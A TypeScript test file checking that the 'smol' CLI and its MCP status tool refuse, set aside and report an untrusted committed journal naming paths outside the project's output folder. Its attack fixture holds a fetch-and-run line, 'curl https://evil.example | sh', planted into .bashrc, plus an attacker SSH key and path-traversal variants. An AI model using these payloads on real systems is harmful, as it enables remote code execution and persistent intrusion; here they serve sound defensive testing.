import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { InMemoryTransport } from '@modelcontextprotocol/sdk/inMemory.js';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createMcpServer } from '../../src/server/mcp/server.js';
import { tempDir, type CliResult } from '../helpers/cli.js';
import { createProject, FAKE_KEY, type TestProject } from '../helpers/project.js';
import { scriptedModel, type ScriptedApp } from '../helpers/scripted-model.js';
import { exists, plantJournal, seedHome, snapshotTree, type PlantedChange } from './sandbox.js';

/**
 * Issue 13 item 1: a committed `.smol/journal.json` is untrusted. Whatever folder or paths it names, recovery
 * touches only the current spec's outDir and lock; a journal naming anything else is set aside and reported,
 * by every command that recovers (the read-only ones included) and by the MCP `status` tool.
 */

const APP: ScriptedApp = {
  files: { 'a.txt': { section: 'A.', content: 'a\n' }, 'b.txt': { section: 'B.', content: 'b\n' } },
};

let project: TestProject;
let home: string;
let cleanHome: () => Promise<void>;
beforeEach(async () => {
  ({ dir: home, cleanup: cleanHome } = await tempDir('smol-home-'));
  await seedHome(home);
  project = await createProject(scriptedModel(() => APP));
  await project.writeSpec();
  const first = await project.smol(['run', '--yes']);
  expect(first.code, first.stderr).toBe(0);
});
afterEach(async () => {
  await project.close();
  await cleanHome();
});

/** What an attacker writes into home: a shell profile line, an SSH key, and a deletion. */
function attack(prefix: string): PlantedChange[] {
  return [
    { path: `${prefix}.bashrc`, before: 'export PATH=$HOME/bin:$PATH\n', after: 'curl https://evil.example | sh\n' },
    { path: `${prefix}.ssh/authorized_keys`, before: null, after: 'ssh-ed25519 ATTACKER\n' },
    { path: `${prefix}precious.txt`, before: 'precious\n', after: null },
  ];
}

type Command = { name: string; run: () => Promise<CliResult> };

function commands(): Command[] {
  return [
    { name: 'status', run: () => project.smol(['status']) },
    { name: 'status --json', run: () => project.smol(['status', '--json']) },
    { name: 'check', run: () => project.smol(['check']) },
    { name: 'check --json', run: () => project.smol(['check', '--json']) },
    { name: 'plan', run: () => project.smol(['plan']) },
    { name: 'diff', run: () => project.smol(['diff']) },
    { name: 'apply --yes', run: () => project.smol(['apply', '--yes']) },
    { name: 'mcp status', run: () => mcpStatus(project) },
    { name: 'run --yes', run: () => project.smol(['run', '--yes']) },
    { name: 'undo', run: () => project.smol(['undo']) },
  ];
}

/** The MCP `status` tool, through the SDK's Client over the in-memory transport. */
async function mcpStatus(p: TestProject): Promise<CliResult> {
  const smol = createMcpServer({
    specFile: 'prompt.md',
    cwd: p.dir,
    overrides: { provider: 'openai-compatible', baseURL: p.server.url },
    env: { OPENAI_API_KEY: FAKE_KEY },
    version: '0.0.0-test',
    log: () => {},
  });
  const [clientSide, serverSide] = InMemoryTransport.createLinkedPair();
  await smol.server.connect(serverSide);
  const client = new Client({ name: 'smol-test', version: '1.0.0' });
  await client.connect(clientSide);
  try {
    const result = (await client.callTool({ name: 'status', arguments: {} })) as {
      content: { text: string }[];
      structuredContent?: unknown;
      isError?: boolean;
    };
    return {
      code: result.isError === true ? 1 : 0,
      stdout: `${result.content.map((part) => part.text).join('\n')}\n${JSON.stringify(result.structuredContent)}`,
      stderr: '',
    };
  } finally {
    await client.close();
    await smol.close();
  }
}

async function expectSetAside(result: CliResult, name: string): Promise<void> {
  expect(result.code, `${name}: ${result.stderr}`).not.toBe(2);
  // The command said so, in words or in its JSON.
  expect(`${result.stdout}\n${result.stderr}`, name).toMatch(/set aside|refused|journal\.refused\.json/);
  // The planted journal is gone (a command that applies writes its own).
  const journal = await readFile(path.join(project.dir, '.smol', 'journal.json'), 'utf8').catch(() => '');
  expect(journal, name).not.toContain('planted');
  expect(await exists(path.join(project.dir, '.smol', 'journal.refused.json')), name).toBe(true);
}

describe('a committed journal that names another folder is never carried out (issue 13.1)', () => {
  const variants: { name: string; outDir: () => string }[] = [
    { name: 'relative outDir (../home)', outDir: () => path.relative(project.dir, home) },
    {
      name: 'outDir through the spec outDir (app/../../home)',
      outDir: () => `app/${path.relative(path.join(project.dir, 'app'), home)}`,
    },
    { name: 'absolute outDir', outDir: () => home },
    { name: 'outDir the project itself (.)', outDir: () => '.' },
  ];
  it.each(variants.map((variant) => [variant.name, variant] as const))('%s', async (_name, variant) => {
    const before = await snapshotTree(home);
    const projectBefore = await snapshotTree(path.join(project.dir, 'app'));
    for (const command of commands()) {
      // For `.`, the attack aims at the project's own files (the spec next to the lock).
      const files =
        variant.outDir() === '.'
          ? [{ path: 'prompt.md', before: await project.read('prompt.md'), after: 'owned\n' }, ...attack('')]
          : attack('');
      await plantJournal(project.dir, variant.outDir(), files);
      const result = await command.run();
      await expectSetAside(result, command.name);
      expect(await snapshotTree(home), command.name).toEqual(before);
      expect(await project.read('prompt.md')).not.toBe('owned\n');
      if (command.name !== 'undo')
        expect(await snapshotTree(path.join(project.dir, 'app')), command.name).toEqual(projectBefore);
    }
  });
});

describe('a journal whose file paths leave outDir is refused whole (issue 13.1)', () => {
  const variants: { name: string; prefix: () => string }[] = [
    { name: '`..` paths', prefix: () => `${path.relative(path.join(project.dir, 'app'), home)}/` },
    { name: 'absolute paths', prefix: () => `${home}/` },
    { name: 'backslash `..` paths', prefix: () => `..\\..\\${path.basename(home)}\\` },
  ];
  it.each(variants.map((variant) => [variant.name, variant] as const))('%s', async (_name, variant) => {
    const before = await snapshotTree(home);
    for (const command of commands()) {
      // One harmless change inside outDir first: the journal is refused as a whole, that one included.
      await plantJournal(project.dir, 'app', [
        { path: 'a.txt', before: 'a\n', after: 'planted\n' },
        ...attack(variant.prefix()),
      ]);
      const result = await command.run();
      await expectSetAside(result, command.name);
      expect(await snapshotTree(home), command.name).toEqual(before);
      if (command.name !== 'undo') expect(await project.read('app/a.txt'), command.name).toBe('a\n');
    }
  });
});

describe('a pending journal for this outDir is finished, and read-only commands say so (issue 13.1)', () => {
  it.each(['status', 'check', 'status --json', 'mcp status'])('%s', async (name) => {
    const before = await snapshotTree(home);
    // An apply a crash interrupted after its files: only the lock and the history were left to write.
    await plantJournal(project.dir, 'app', [{ path: 'b.txt', before: 'b\n', after: 'b\n' }], {
      lockAfter: await project.read('smol.lock'),
    });
    const command = commands().find((entry) => entry.name === name)!;
    const result = await command.run();
    expect(result.code, result.stderr).toBe(0);
    expect(`${result.stdout}\n${result.stderr}`).toMatch(/interrupted|"recovered"/);
    expect(await exists(path.join(project.dir, '.smol', 'journal.json'))).toBe(true);
    const journal = JSON.parse(await readFile(path.join(project.dir, '.smol', 'journal.json'), 'utf8')) as {
      state: string;
    };
    expect(journal.state).toBe('done');
    expect(await snapshotTree(home)).toEqual(before);
  });
});

describe('an unreadable journal is set aside, never carried out (issue 13.1)', () => {
  it.each([
    ['not JSON', '{"version": 2, "outDir": "'],
    ['another version', JSON.stringify({ version: 1, state: 'pending', outDir: '.', files: [] })],
    [
      'a huge path list',
      JSON.stringify({
        version: 2,
        state: 'pending',
        outDir: 'app',
        files: Array.from({ length: 2000 }, () => ({ path: '../x', before: null, after: null })),
      }),
    ],
  ])('%s', async (_name, text) => {
    await mkdir(path.join(project.dir, '.smol'), { recursive: true });
    await writeFile(path.join(project.dir, '.smol', 'journal.json'), text);
    const result = await project.smol(['status']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toMatch(/set aside/);
    expect((await project.smol(['check'])).code).toBe(0);
  });
});
